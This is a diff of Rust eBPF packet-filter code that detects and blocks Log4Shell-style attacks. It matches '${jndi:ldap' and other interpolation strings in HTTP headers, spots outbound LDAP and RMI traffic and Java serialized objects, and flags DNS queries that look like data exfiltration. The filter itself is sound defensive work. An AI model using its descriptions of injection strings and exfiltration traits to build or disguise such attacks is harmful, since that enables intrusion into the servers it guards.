+unsafe fn dns_query(ctx: &XdpContext, saddr: u32, edn: &mut [u8; LDAP_DN_LEN]) -> Result<u32, ()> {
+    let flags = u16::from_be(*ptr_at(ctx, UDP_DATA + 2)?);
+    let qdcount = u16::from_be(*ptr_at(ctx, UDP_DATA + 4)?);
+    if flags & 0x8000 != 0 || qdcount == 0 {
         return Err(());
     }
+    let mut dflags = DNS_QUERY;
+    let off = UDP_DATA + DNS_HDR_LEN;
+
+    // QNAME loops don't exit early: every exit is one more verifier state
+    // for the rest of the program (the label end is black boxed too)
+    for i in 0..LDAP_DN_LEN {
+        if let Ok(byte) = ptr_at::<u8>(ctx, off + i) {
+            edn[i] = *byte;
+        }
+    }
+
+    let llen: u8 = *ptr_at(ctx, off)?;
+    if llen == 0 || llen as usize > DNS_LABEL_MAX {
+        return Ok(dflags);
+    }
+    if llen >= DNS_LONG_LABEL_LEN {
+        dflags |= DNS_LONG_LABEL;
+    }
+
+    if llen >= 4 {
+        for prefix in DNS_KEY_PREFIXES.iter() {
+            let mut found = true;
+            for i in 0..4 {
+                let byte: u8 = *ptr_at(ctx, off + 1 + i)?;
+                if byte & 0xDF != prefix[i] {
+                    found = false;
+                }
+            }
+            if found {
+                dflags |= DNS_KEY_PREFIX;
+            }
+        }
+    }
+
+    if llen >= DNS_ENTROPY_LABEL_LEN {
+        let mut charset = [0u64; 2];
+        for i in 0..DNS_LABEL_MAX {
+            let in_label = core::hint::black_box((i as u64).wrapping_sub(llen as u64)) >> 63;
+            if let Ok(byte) = ptr_at::<u8>(ctx, off + 1 + i) {
+                dns_charset_add(&mut charset, *byte, in_label.wrapping_neg());
+            }
+        }
+        if dns_charset_high_entropy(&charset) {
+            dflags |= DNS_ENTROPY;
+        }
+    }
+
+    if let Some(injection) = INJECTIONS.get(&saddr) {
+        if injection.host != 0 && bpf_ktime_get_ns().saturating_sub(injection.ts) <= DNS_CORRELATION_NS
+            && qname_hash(edn) == injection.host {
+            dflags |= DNS_CORRELATED;
+        }
+    }
+
+    Ok(dflags)
+}
+
+// HTTP response body offset (first byte after \r\n\r\n), bounded by HTTP_HDR_MAX
+#[inline(always)]
+unsafe fn http_body(ctx: &XdpContext) -> Option<usize> {
+    for i in 0..HTTP_HDR_MAX {
+        match seq_at(ctx, TCP_DATA + i, &HTTP_HDR_END) {
+            Some(true) => return Some(TCP_DATA + i + HTTP_HDR_END.len()),
+            Some(false) => {},
+            None => return None,
+        }
+    }
+    None
+}
 
-    Ok((start + offset) as *const T)
+/** LDAP javaSerializedData:
+ * searchResEntry attributes are encoded as
+ *      4 L type        -- AttributeDescription ('javaSerializedData')
+ *      49 L            -- vals (SET OF)
+ *         4 L value    -- AttributeValue
+ * Returns 2 if the attribute value holds a serialized object.
+**/
+#[inline(always)]
+unsafe fn ldap_ser_attr(ctx: &XdpContext) -> u32 {
+    for i in 0..LDAP_ATTR_MAX {
+        let found = match seq_at(ctx, TCP_DATA + i, &JAVA_SER_ATTR) {
+            Some(found) => found,
+            None => return 0,
+        };
+        if found {
+            let mut off = TCP_DATA + i + JAVA_SER_ATTR.len();
+            if !match_at(ctx, off, &[49u8]) {
+                return 0;
+            }
+            match ber_len_size(ctx, off + 1) {
+                Ok(lsz) => off += 1 + lsz,
+                Err(_) => return 0,
+            }
+            if !match_at(ctx, off, &[BER_OCTET_STRING]) {
+                return 0;
+            }
+            match ber_len_size(ctx, off + 1) {
+                Ok(lsz) => off += 1 + lsz,
+                Err(_) => return 0,
+            }
+            if match_at(ctx, off, &JAVA_SER) {
+                return 2;
+            }
+            return 0;
+        }
+    }
+    0
 }
 
 
@@ -200,7 +880,7 @@ unsafe fn ptr_at<T>(ctx: &XdpContext, offset: usize) -> Result<*const T, ()> {
  * Looks for unexpected packets (packets that haven't been registered
  * from egress TC traffic, aka source address from a packet sent to our logger).
  *
- * Rule sets (indexes 0 and 1) filter outbound traffic. 
+ * Rule sets (indexes 0, 1, 4, 5, 6 and 7) filter outbound traffic. 
  * If destination address is whlisted' rule sets are overrided.
  * 
 **/
@@ -212,12 +892,21 @@ fn try_intrf(ctx: XdpContext) -> Result<u32, ()> {
     if h_proto != ETH_P_IP {
         return Ok(xdp_action::XDP_PASS)
     }
+    count(STAT_PACKETS);
     let mut srcldap: u8 = 0;
     let mut eroute = [0u32 ; 2usize];
-    let mut eaction = [0u32 ; 2usize];
-    let mut elvls = [0u32 ; 3usize];
+    let mut eaction = [0u32 ; 3usize];
+    let mut elvls = [0u32 ; 6usize];
+    let mut edn = [0u8 ; LDAP_DN_LEN];
+    let mut esig = 0;
+    let mut snip = (0u32, 0usize);       // snippet (location , packet offset)
+    let mut dreason = [0u32 ; 2usize];   // drop reason
+    let mut areason = [0u32 ; 2usize];   // alert reason
+    let mut wlentry = 0;
+    let mut state = false;               // BLOCKLIST / LOOKUPS updated
     let mut ctxdrop = 0;
     let mut ctxoveride = 0;
+    let mut ctxalert = 0;
     let ip_proto = u8::from_be(unsafe {
         *ptr_at(&ctx, ETH_HDR_LEN + offset_of!(iphdr, protocol))?
     });
@@ -230,14 +919,18 @@ fn try_intrf(ctx: XdpContext) -> Result<u32, ()> {
     let saddr_port = u16::from_be(unsafe {
         *ptr_at(&ctx, ETH_HDR_LEN + IP_HDR_LEN + offset_of!(tcphdr, source))?
     });
-    let mut daddr_port: u16 = 0;
+    let daddr_port = u16::from_be(unsafe {
+        *ptr_at(&ctx, ETH_HDR_LEN + IP_HDR_LEN + offset_of!(tcphdr, dest))?
+    });
     let scount = unsafe { update_RTX(saddr).expect("Error updating RTX") }; // baseline
     let dcount = unsafe { update_RTX(daddr).expect("Error updating RTX") };
+    // matched first: the bpf_loop callbacks are checked once, not for every state of the inspections below
+    let sig_found = match ip_proto {
+        IPPROTO_TCP => unsafe { match_signatures(&ctx, SIG_DIR_OUTBOUND, TCP_DATA) },
+        _ => None,
+    };
 
     if dcount < scount && ip_proto == IPPROTO_TCP {
-        daddr_port = u16::from_be(unsafe {
-            *ptr_at(&ctx, ETH_HDR_LEN + IP_HDR_LEN + offset_of!(tcphdr, dest))?
-        });
         let data_size = ((ctx.data_end() - ctx.data()) - (TCP_DATA)) as usize;
 
         if data_size >= 100 {
@@ -254,13 +947,15 @@ fn try_intrf(ctx: XdpContext) -> Result<u32, ()> {
                             unsafe {
                                 // JNDI / JNDI:LDAP lookup blocked
                                 if RULE_SET[2] == 1 || RULE_SET[3] == 1 {
-                                    block_addr(daddr);
+                                    block_addr(daddr, jndi_rule_id());
+                                    set_reason(&mut dreason, REASON_LOOKUP, jndi_rule_id());
                                 }
                                 let r = update_LOOKUPS(saddr, false).unwrap();
                                 if r == 0 {
                                     LOOKUPS.remove(&saddr).expect("rm lookup");
                                 }
                             };
+                            state = true;
                         },
                     };
                     elvls[1] = 1;  // HTTP GET 
@@ -271,6 +966,9 @@ fn try_intrf(ctx: XdpContext) -> Result<u32, ()> {
                 if lbyte == HTTP_RES[i] {
                     // info!(&ctx, "\tHTTP RESP: data_size: {}", data_size);
                     elvls[1] = 2;  // HTTP Response
+                    if let Some(body) = unsafe { http_body(&ctx) } {
+                        elvls[4] = unsafe { java_magic(&ctx, body) };  // Class file / Serialized object
+                    }
                 }
             }
         }
@@ -312,47 +1010,180 @@ fn try_intrf(ctx: XdpContext) -> Result<u32, ()> {
             // info!(&ctx, "\tLDAP packet: messageID = {} ; protocolOp = {}", msgID, protocolOp);
             elvls[1] = data_size as u32; // ldap data packet size
             elvls[2] = protocolOp as u32; // protocol Operation (ldap)
+            if protocolOp == 100 { // searchResEntry
+                elvls[4] = unsafe { ldap_ser_attr(&ctx) };  // javaSerializedData
+            }
         }
 
         elvls[0] = 1;  // TCP Data
         srcldap = 1;   // Src LDAP
     }
 
+    // Outbound LDAP requests (protected workload --> LDAP server)
+    if ip_proto == IPPROTO_TCP && srcldap == 0 && LDAP_PORTS.iter().any(|p| p == &daddr_port) {
+        if let Ok(protocolOp) = unsafe { ldap_req(&ctx, &mut edn) } {
+            count(STAT_LDAP_REQUESTS);
+            let data_size = ((ctx.data_end() - ctx.data()) - (TCP_DATA)) as usize;
+            elvls[1] = data_size as u32; // ldap data packet size
+            elvls[2] = protocolOp as u32; // protocol Operation (ldap)
+
+            // RULE SET (idx=4): if 1 --> alert ; if 2 --> block LDAP requests
+            if RULE_SET[4] == 1 {
+                ctxalert = 1;
+                set_reason(&mut areason, REASON_LDAP_REQUEST, RULE_IDS[4]);
+                info!(&ctx, "\tOutbound LDAP request: protocolOp = {}", protocolOp);
+            } else if RULE_SET[4] == 2 {
+                ctxdrop = 1;
+                set_reason(&mut dreason, REASON_LDAP_REQUEST, RULE_IDS[4]);
+            }
+        }
+        elvls[0] = 1;  // TCP Data
+    }
+
+    // Outbound RMI calls (JRMP handshake)
+    if ip_proto == IPPROTO_TCP {
+        if let Ok(protocol) = unsafe { jrmp_hdr(&ctx) } {
+            count(STAT_JRMP);
+            elvls[3] = protocol as u32; // JRMP protocol
+
+            // RULE SET (idx=5): if 1 --> alert ; if 2 --> block JRMP handshakes
+            if RULE_SET[5] == 1 {
+                ctxalert = 1;
+                set_reason(&mut areason, REASON_JRMP, RULE_IDS[5]);
+                info!(&ctx, "\tOutbound JRMP handshake: protocol = {}", protocol);
+            } else if RULE_SET[5] == 2 {
+                ctxdrop = 1;
+                set_reason(&mut dreason, REASON_JRMP, RULE_IDS[5]);
+            }
+            elvls[0] = 1;  // TCP Data
+        } else if unsafe { match_at(&ctx, TCP_DATA, &[JRMP_RETURN_DATA]) && match_at(&ctx, TCP_DATA + 1, &JAVA_SER) } {
+            elvls[4] = 2;  // Serialized object (RMI ReturnData)
+            elvls[0] = 1;  // TCP Data
+        }
+    }
+
+    // Outbound DNS queries (UDP)
+    if ip_proto == IPPROTO_UDP && daddr_port == DNS_PORT {
+        if let Ok(dflags) = unsafe { dns_query(&ctx, saddr, &mut edn) } {
+            elvls[5] = dflags;  // DNS query flags
+            let exfil = dflags & DNS_EXFIL != 0;
+            let correlated = dflags & DNS_CORRELATED != 0;
+            let long_label = dflags & DNS_LONG_LABEL != 0;
+
+            // RULE SET (idx=7): if 1 --> alert ; if 2 --> block exfil queries ; if 3 --> block exfil and correlated queries
+            // long labels alone are only alerted
+            if exfil || correlated || long_label {
+                count(STAT_DNS_FLAGGED);
+                if (RULE_SET[7] == 3 && (exfil || correlated)) || (RULE_SET[7] == 2 && exfil) {
+                    ctxdrop = 1;
+                    set_reason(&mut dreason, REASON_DNS, RULE_IDS[7]);
+                } else if RULE_SET[7] != 0 {
+                    ctxalert = 1;
+                    set_reason(&mut areason, REASON_DNS, RULE_IDS[7]);
+                    info!(&ctx, "\tOutbound DNS query: flags = {}", dflags);
+                }
+            }
+        }
+    }
+
+    // RULE SET (idx=6): if 1 --> alert ; if 2 --> drop ; if 3 --> drop and block serving host
+    if elvls[4] != 0 {
+        count(STAT_JAVA_OBJECTS);
+        if RULE_SET[6] == 1 {
+            ctxalert = 1;
+            set_reason(&mut areason, REASON_JAVA_OBJECT, RULE_IDS[6]);
+            info!(&ctx, "\tJava payload (class file = 1 / serialized object = 2): {}", elvls[4]);
+        } else if RULE_SET[6] >= 2 {
+            ctxdrop = 1;
+            set_reason(&mut dreason, REASON_JAVA_OBJECT, RULE_IDS[6]);
+            if RULE_SET[6] == 3 {
+                unsafe { block_addr(saddr, RULE_IDS[6]) };
+                state = true;
+            }
+        }
+    }
+
+    // User defined signatures (outbound)
+    if ip_proto == IPPROTO_TCP {
+        if let Some((id, action, location, offset)) = sig_found {
+            count(STAT_SIGNATURES);
+            esig = id;
+            snip = (location, offset);
+            if action == SIG_DROP {
+                ctxdrop = 1;
+                set_reason(&mut dreason, REASON_SIGNATURE, id);
+            } else if action == SIG_ALERT {
+                ctxalert = 1;
+                set_reason(&mut areason, REASON_SIGNATURE, id);
+                info!(&ctx, "\tSignature match: id = {}", id);
+            }
+        }
+    }
+
     // RULE SET (idx=1): if 1 --> block LDAP ports
-    if RULE_SET[1] == 1 && ( LDAP_PORTS.map(|p| p == daddr_port).len() > 0 || srcldap == 1 ) {
+    if RULE_SET[1] == 1 && ( LDAP_PORTS.iter().any(|p| *p == daddr_port) || srcldap == 1 ) {
         ctxdrop = 1;
+        set_reason(&mut dreason, REASON_LDAP_PORT, RULE_IDS[1]);
     }
 
     // RULE SET (idx=0): if 1 --> block TCP ; if 2 --> block HTTP
     if RULE_SET[0] != 0 && RULE_SET[0] == elvls[0] || (RULE_SET[0] == 2 && elvls[1] <= RULE_SET[0]) {
         ctxdrop = 1;   
+        let code = if RULE_SET[0] == 1 { REASON_OUTBOUND_TCP } else { REASON_OUTBOUND_HTTP };
+        set_reason(&mut dreason, code, RULE_IDS[0]);
     }
     
-    if unsafe { is_blocked(daddr) } {
+    if let Some(rule) = unsafe { is_blocked(daddr) } {
         ctxdrop = 1;
+        set_reason(&mut dreason, REASON_BLOCKLIST, rule);
     }
 
     //override
-    if unsafe { is_verified(daddr) } {
+    if let Some(entry) = unsafe { is_verified(daddr) } {
         ctxdrop = 0;
         ctxoveride = 1;
+        wlentry = entry;
         info!(&ctx, "\tDestination address whlisted");
     }
 
     eaction[0] = ctxdrop;
     eaction[1] = ctxoveride;
-    eroute[0] = saddr; // TODO saddr_port
+    eaction[2] = ctxalert;
+    let reason = if ctxdrop == 1 || ctxoveride == 1 { dreason } else { areason };
+    count_verdict(0, &eaction, &reason);
+    eroute[0] = saddr;
     eroute[1] = daddr;
+    let mut eports = [0u32 ; 2usize];
+    if ip_proto == IPPROTO_TCP || ip_proto == IPPROTO_UDP {
+        eports = [saddr_port as u32, daddr_port as u32];
+    }
+    let eflow = flow_id(saddr, daddr, eports[0], eports[1], ip_proto as u32);
+    count_flow(eflow, 0, (ctx.data_end() - ctx.data()) as u64);
+    // LDAP operation, JRMP, Java object, flagged DNS query or signature match
+    let detection = elvls[2] != 0 || elvls[3] != 0 || elvls[4] != 0 || elvls[5] & !DNS_QUERY != 0 || esig != 0;
+    if !emit_event(0, &eaction, state, detection) {
+        return Ok(xdp_action::XDP_PASS);    // drops are always reported
+    }
 
-    let event = EventLog {
-        etype: 0,
-        eroute: eroute,
-        eaction: eaction,
-        elvls: elvls,
-    };
-
-    unsafe {
-        EVENTS.output(&ctx, &event, 0);
+    if let Some(event) = unsafe { EVENT_BUF.get_ptr_mut(0) } {
+        let event = unsafe { &mut *event };
+        event.eversion = EVENT_VERSION;
+        event.etype = 0;
+        event.ets = unsafe { bpf_ktime_get_ns() };
+        event.eroute = eroute;
+        event.eports = eports;
+        event.eproto = ip_proto as u32;
+        event.eifindex = unsafe { (*ctx.ctx).ingress_ifindex };
+        event.eflow = eflow;
+        event.epid = [0u32 ; 2usize];   // no task context in XDP
+        event.eaction = eaction;
+        event.elvls = elvls;
+        event.ereason = [reason[0], reason[1], wlentry];
+        event.esig = esig;
+        event.edn = edn;
+        event.esnip = [snip.0, copy_snippet(&ctx, snip.1, &mut event.esnippet)];
+
+        output_event(&ctx, 0, event);
     }
     if ctxdrop == 1 {
         return Ok(xdp_action::XDP_DROP);
@@ -397,15 +1228,120 @@ fn lookup_hdr(ctx: &TcContext, mut byte: u8, nxbyteidx: usize) -> Option<usize>
 }
 
 
+// Family rule: 0 => disabled ; 1 => alert ; 2 => block request (JNDI is always matched, see RULE_SET idx 2/3)
+#[inline(always)]
+fn family_rule(family: u32) -> u32 {
+    match family {
+        FAMILY_COMMONS_TEXT => RULE_SET[8],
+        FAMILY_SPEL => RULE_SET[9],
+        _ => 1,
+    }
+}
+
+/** Interpolation signatures:
+ * Compares the logger entry value (starting at offset) with every
+ * signature of an enabled family, returns the matched INTERP_SIGS index.
+ * The value bytes are loaded at once and compared without a branch per byte
+ * (bef_dpi calls it for every header offset, a verifier state each).
+**/
+#[inline(always)]
+fn interp_sig(ctx: &TcContext, offset: usize) -> Option<usize> {
+    // values shorter than INTERP_SIG_LEN bytes (up to the end of the packet) aren't matched
+    let value: [u8; INTERP_SIG_LEN] = ctx.load(offset).ok()?;
+    for s in 0..INTERP_SIGS.len() {
+        let sig = &INTERP_SIGS[s];
+        if family_rule(sig.family) != 0 {
+            let mut diff = 0u8;
+            for k in 0..sig.len {
+                diff |= value[k] ^ sig.pattern[k];
+            }
+            if core::hint::black_box(diff) == 0 {
+                return Some(s);
+            }
+        }
+    }
+    None
+}
+
+// 1 if x != 0 (branch free)
+#[inline(always)]
+fn nonzero(x: usize) -> usize {
+    // black_box: LLVM folds it back to a compare, a branch in eBPF
+    (x | core::hint::black_box(x.wrapping_neg())) >> (usize::BITS - 1)
+}
+
+/** Packet bytes (TC):
+ * Copies the bytes from offset on (up to N , the end of the packet) to buf,
+ * returns the count. One helper call for the scans below, a load per byte
+ * is one more verifier branch (the error path) per offset.
+**/
+#[inline(always)]
+unsafe fn load_upto<const N: usize>(ctx: &TcContext, offset: usize, buf: &mut [u8; N]) -> usize {
+    // black_box: keeps the len == 0 check LLVM drops (from the subtraction), the verifier needs it
+    let len = core::hint::black_box((ctx.len() as usize).saturating_sub(offset).min(N));
+    if len == 0 || bpf_skb_load_bytes(ctx.as_ptr(), offset as u32, buf.as_mut_ptr() as *mut c_void, len as u32) != 0 {
+        return 0;
+    }
+    len
+}
+
+/** Lookup host:
+ * Hash (trf_common::host_hash) and length of the host of a `${jndi:<scheme>://host[:port]/...`
+ * lookup, offset is the first byte after the `${jndi` signature. (0 , 0) without `://`.
+ * No early exit: the first `://` and the host bytes are masked, a break per offset would
+ * be one more verifier state (with a known offset / length) for the rest of the program.
+**/
+#[inline(always)]
+unsafe fn lookup_host(ctx: &TcContext, offset: usize) -> (u32, u32) {
+    let mut buf = [0u8; LDAP_DN_LEN];   // bytes past the packet stay 0 (never part of `://` / a host)
+    load_upto(ctx, offset, &mut buf);
+    let mut start = 0usize;
+    for i in 0..LOOKUP_SCHEME_MAX {
+        let mut diff = 0u8;
+        for k in 0..SCHEME_SEP.len() {
+            diff |= buf[i + k] ^ SCHEME_SEP[k];
+        }
+        // first `://` only: start is kept once set (arithmetic, a compare is a branch on a known value)
+        let hit = (nonzero(diff as usize) | nonzero(start)) ^ 1;
+        start |= (i + SCHEME_SEP.len()) & hit.wrapping_neg();
+    }
+    let mut open = nonzero(start) as u32;   // 0 from the first byte that can't be part of the host on
+    buf = [0u8; LDAP_DN_LEN];
+    load_upto(ctx, offset + start, &mut buf);
+    let mut hash = NAME_HASH_INIT;
+    let mut len = 0u32;
+    for byte in buf {
+        let byte = HOST_BYTES[byte as usize];
+        open &= nonzero(byte as usize) as u32;
+        hash ^= (name_hash_mix(hash, byte) ^ hash) & open.wrapping_neg();
+        len += open;
+    }
+    (hash & (nonzero(len as usize) as u32).wrapping_neg(), len)
+}
+
+// Global function (BTF linkage): verified once on its own, not for every bef_dpi path
+// reaching the call. Returns hash << 32 | length, see lookup_host
+#[no_mangle]
+#[inline(never)]
+pub extern "C" fn lookup_host_skb(skb: *mut __sk_buff, offset: u32) -> u64 {
+    let ctx = TcContext::new(skb);
+    let (hash, len) = unsafe { lookup_host(&ctx, offset as usize) };
+    (hash as u64) << 32 | len as u64
+}
+
 /** Left hand side offet (lhsoffset): 
   * Incremented for each byte not considered, since our logger offset will be
   * relative to the beginning of the header name field.
+  *
+  * Returns (`${` match , JNDI lookup (1) / JNDI:LDAP lookup (2) , INTERP_SIGS idx + 1 , logger entry value offset)
  **/
 #[inline(always)]
 #[unroll_for_loops]
-unsafe fn bef_dpi(ctx: &TcContext) -> (u32, u32) {         // TODO: Search for LDAP packets
+unsafe fn bef_dpi(ctx: &TcContext) -> (u32, u32, u32, usize) {         // TODO: Search for LDAP packets
     let mut lookup: u32 = 0;
     let mut re_match: u32 = 0; // regex match - `${`
+    let mut sig: u32 = 0;
+    let mut value: usize = 0;
 
     match ctx.load::<u8>(TCP_DATA) {
         Err(_) => {},
@@ -415,7 +1351,7 @@ unsafe fn bef_dpi(ctx: &TcContext) -> (u32, u32) {         // TODO: Search for L
                 for i in 1..HTTP_GET.len() {
                     byte = ctx.load::<u8>(TCP_DATA + i).expect("valid GET byte");
                     if byte != HTTP_GET[i] {
-                        return (re_match, lookup);
+                        return (re_match, lookup, sig, value);
                     }
                 } // found GET request
             }
@@ -429,26 +1365,33 @@ unsafe fn bef_dpi(ctx: &TcContext) -> (u32, u32) {         // TODO: Search for L
                     None => lhsoffset += 1,
                     Some(mut logger_off) => {
                         logger_off += lhsoffset;
+                        value = TCP_DATA + i + logger_off;
                         byte = ctx.load::<u8>(TCP_DATA + i + logger_off).expect("valid X-Api-Version byte");          
-                        let mut l = 0;
-                        if byte == JNDI[l] {
-                            for l in 1..JNDI.len() {
-                                byte = ctx.load::<u8>(TCP_DATA + i + logger_off + l).expect("valid X-Api-Version byte");
-                                if byte != JNDI[l] {
-                                    return (re_match, lookup);
-                                }
+                        if INTERP_OPEN.iter().any(|b| b == &byte) {
+                            byte = ctx.load::<u8>(TCP_DATA + i + logger_off + 1).expect("valid X-Api-Version byte");
+                            if byte == INTERP_BRACE {
                                 re_match = 1;
-                            } // found JNDI lookup 
-                            lookup = 1;
-
-                            l = JNDI.len();
-                            for m in 0..LDAP.len() {
-                                byte = ctx.load::<u8>(TCP_DATA + i + logger_off + l + m).expect("valid X-Api-Version byte");
-                                if byte != LDAP[m] {
-                                    return (re_match, lookup);
+                            }
+                        }
+
+                        match interp_sig(ctx, TCP_DATA + i + logger_off) {
+                            None => {},     // keep scanning the next offsets
+                            Some(s) => {
+                                sig = s as u32 + 1;
+                                if INTERP_SIGS[s].family == FAMILY_JNDI {
+                                    lookup = 1; // found JNDI lookup
+
+                                    let l = INTERP_SIGS[s].len;
+                                    for m in 0..LDAP.len() {
+                                        byte = ctx.load::<u8>(TCP_DATA + i + logger_off + l + m).expect("valid X-Api-Version byte");
+                                        if byte != LDAP[m] {
+                                            return (re_match, lookup, sig, value);
+                                        }
+                                    } // found '${jndi:ldap' pattern
+                                    lookup = 2;
                                 }
-                            } // found '${jndi:ldap' pattern
-                            lookup = 2;
+                                return (re_match, lookup, sig, value);
+                            }
                         }
                     }
                 }
@@ -456,7 +1399,16 @@ unsafe fn bef_dpi(ctx: &TcContext) -> (u32, u32) {         // TODO: Search for L
         },
     }
 
-    (re_match, lookup)
+    (re_match, lookup, sig, value)
+}
+
+// Global function (BTF linkage), see lookup_host_skb: try_egtrf goes on with one verifier state
+// instead of one per bef_dpi return path. Returns value | sig << 32 | lookup << 40 | `${` match << 48
+#[no_mangle]
+#[inline(never)]
+pub extern "C" fn bef_dpi_skb(skb: *mut __sk_buff) -> u64 {
+    let (re_match, lookup, sig, value) = unsafe { bef_dpi(&TcContext::new(skb)) };
+    (value as u64) | (sig as u64) << 32 | (lookup as u64) << 40 | (re_match as u64) << 48
 }
 
 fn try_egtrf(ctx: TcContext) -> Result<i32, i64> {
@@ -468,13 +1420,21 @@ fn try_egtrf(ctx: TcContext) -> Result<i32, i64> {
     if h_proto != ETH_P_IP {
         return Ok(TC_ACT_PIPE);
     }
+    count(STAT_PACKETS + 1);
 
-    let mut einfo = (0, 0);
+    let mut einfo = (0, 0, 0, 0);
     let mut eroute = [0u32; 2usize];
-    let mut eaction = [0u32 ; 2usize];
-    let mut elvls = [0u32 ; 3usize];
+    let mut eaction = [0u32 ; 3usize];
+    let mut elvls = [0u32 ; 6usize];
+    let mut esig = 0;
+    let mut snip = (0u32, 0usize);       // snippet (location , packet offset)
+    let mut dreason = [0u32 ; 2usize];   // drop reason
+    let mut areason = [0u32 ; 2usize];   // alert reason
+    let mut wlentry = 0;
+    let mut state = false;               // LOOKUPS / INJECTIONS updated
     let mut ctxdrop = 0;
     let mut ctxoveride = 0;
+    let mut ctxalert = 0;
     let ip_proto = u8::from_be(
         ctx.load(ETH_HDR_LEN + offset_of!(iphdr, protocol))
             .map_err(|_| TC_ACT_PIPE)?,
@@ -482,14 +1442,23 @@ fn try_egtrf(ctx: TcContext) -> Result<i32, i64> {
     let saddr = u32::from_be(ctx.load(ETH_HDR_LEN + offset_of!(iphdr, saddr))?);
     let daddr = u32::from_be(ctx.load(ETH_HDR_LEN + offset_of!(iphdr, daddr))?);
 
-    if unsafe { is_blocked(saddr)} {
+    if let Some(rule) = unsafe { is_blocked(saddr) } {
         ctxdrop = 1;
+        set_reason(&mut dreason, REASON_BLOCKLIST, rule);
     } else if ip_proto == IPPROTO_TCP {
-        einfo = unsafe { bef_dpi(&ctx) };  // Future work: Using bef_dpi get ip address inside payload (as u32)
+        let info = bef_dpi_skb(ctx.skb.skb);  // Future work: Using bef_dpi get ip address inside payload (as u32)
+        einfo = ((info >> 48) as u32 & 1, (info >> 40) as u32 & 0xff, (info >> 32) as u32 & 0xff, info as u32 as usize);
     }
 
-    if einfo != (0, 0) {
+    if einfo.0 != 0 || einfo.1 != 0 || einfo.2 != 0 {
+        if einfo.0 != 0 {
+            count(STAT_INTERP);
+        }
         elvls[0] = einfo.0;     // Regex match for `${`
+        snip = (SIG_LOC_HEADER, einfo.3);   // logger entry value
+        if einfo.1 != 0 {
+            count(STAT_JNDI);
+        }
         if einfo.1 == 1 {       // Found JNDI / JNDI:LDAP lookup (1/2)
             elvls[1] = 1;
         } else if einfo.1 == 2 {
@@ -497,38 +1466,119 @@ fn try_egtrf(ctx: TcContext) -> Result<i32, i64> {
             elvls[2] = 1;
         }
 
+        if einfo.2 != 0 {       // Interpolation signature (family)
+            count(STAT_INTERP_SIGS);
+            let s = (einfo.2 as usize - 1).min(INTERP_SIGS.len() - 1);     // bounded for the verifier
+            let family = INTERP_SIGS[s].family;
+            elvls[3] = family;
+            elvls[4] = einfo.2;
+            let (host, host_len) = match family {
+                FAMILY_JNDI => {
+                    let host = lookup_host_skb(ctx.skb.skb, (einfo.3 + INTERP_SIGS[s].len) as u32);
+                    ((host >> 32) as u32, host as u32)
+                },
+                _ => (0, 0),
+            };
+            let injection = Injection { ts: unsafe { bpf_ktime_get_ns() }, host, host_len };
+            unsafe { INJECTIONS.insert(&daddr, &injection, 0).ok(); };  // DNS correlation
+            state = true;
+
+            // RULE SET (idx=8/9): if 1 --> alert ; if 2 --> block request
+            if family != FAMILY_JNDI {
+                let rule = if family == FAMILY_COMMONS_TEXT { RULE_IDS[8] } else { RULE_IDS[9] };
+                if family_rule(family) == 2 {
+                    ctxdrop = 1;
+                    set_reason(&mut dreason, REASON_INTERP, rule);
+                } else {
+                    ctxalert = 1;
+                    set_reason(&mut areason, REASON_INTERP, rule);
+                    info!(&ctx, "\tInterpolation match: family = {}", family);
+                }
+            }
+        }
+
         if elvls[1] >= 1 {      // Blocking request/lookup JNDI will also block JDNI:LDAP 
             if RULE_SET[2] == 1 || RULE_SET[3] == 1 {
                 unsafe { update_LOOKUPS(daddr, true).expect("new lookup"); };
+                state = true;
             } else if RULE_SET[2] == 2 || RULE_SET[3] == 2 {
                 ctxdrop = 1;
+                set_reason(&mut dreason, REASON_JNDI_REQUEST, jndi_rule_id());
             }
         }
     }
 
+    // User defined signatures (inbound)
+    let mut found = [0u32; 4];
+    if ip_proto == IPPROTO_TCP && match_signatures_skb(ctx.skb.skb, SIG_DIR_INBOUND, &mut found) == 1 {
+        let [id, action, location, offset] = found;
+        count(STAT_SIGNATURES + 1);
+        esig = id;
+        if snip.1 == 0 {    // the interpolation match (logger entry value) comes first
+            snip = (location, offset as usize);
+        }
+        if action == SIG_DROP {
+            ctxdrop = 1;
+            set_reason(&mut dreason, REASON_SIGNATURE, id);
+        } else if action == SIG_ALERT {
+            ctxalert = 1;
+            set_reason(&mut areason, REASON_SIGNATURE, id);
+            info!(&ctx, "\tSignature match: id = {}", id);
+        }
+    }
+
     //override
-    if unsafe { is_verified(saddr) } {
+    if let Some(entry) = unsafe { is_verified(saddr) } {
         ctxdrop = 0;
         ctxoveride = 1;
+        wlentry = entry;
         info!(&ctx, "\tSource address whlisted");
     }
 
     eaction[0] = ctxdrop;
     eaction[1] = ctxoveride;
-    eroute[0] = saddr; // TODO saddr_port
-    eroute[1] = daddr; // TODO daddr_port
-
-    let event = EventLog {
-        etype: 1,
-        eroute: eroute,
-        eaction: eaction,
-        elvls: elvls,
-    };
-
+    eaction[2] = ctxalert;
+    let reason = if ctxdrop == 1 || ctxoveride == 1 { dreason } else { areason };
+    count_verdict(1, &eaction, &reason);
+    eroute[0] = saddr;
+    eroute[1] = daddr;
+    let mut eports = [0u32 ; 2usize];
+    if ip_proto == IPPROTO_TCP || ip_proto == IPPROTO_UDP {
+        let sport = u16::from_be(ctx.load(ETH_HDR_LEN + IP_HDR_LEN + offset_of!(tcphdr, source)).unwrap_or(0));
+        let dport = u16::from_be(ctx.load(ETH_HDR_LEN + IP_HDR_LEN + offset_of!(tcphdr, dest)).unwrap_or(0));
+        eports = [sport as u32, dport as u32];
+    }
     unsafe {
         update_RTX(saddr).expect("Error updating RTX");
         update_RTX(daddr).expect("Error updating RTX");
-        EVENTS.output(&ctx, &event, 0);
+    }
+    let eflow = flow_id(saddr, daddr, eports[0], eports[1], ip_proto as u32);
+    count_flow(eflow, 1, ctx.len() as u64);
+    // `${` / JNDI / interpolation signature or signature match
+    let detection = elvls[0] != 0 || elvls[1] != 0 || elvls[4] != 0 || esig != 0;
+    if !emit_event(1, &eaction, state, detection) {
+        return Ok(TC_ACT_PIPE);             // drops are always reported
+    }
+
+    if let Some(event) = unsafe { EVENT_BUF.get_ptr_mut(0) } {
+        let event = unsafe { &mut *event };
+        event.eversion = EVENT_VERSION;
+        event.etype = 1;
+        event.ets = unsafe { bpf_ktime_get_ns() };
+        event.eroute = eroute;
+        event.eports = eports;
+        event.eproto = ip_proto as u32;
+        event.eifindex = unsafe { (*ctx.skb.skb).ifindex };
+        event.eflow = eflow;
+        event.epid = [0u32 ; 2usize];   // softirq context, no owning task
+        event.eaction = eaction;
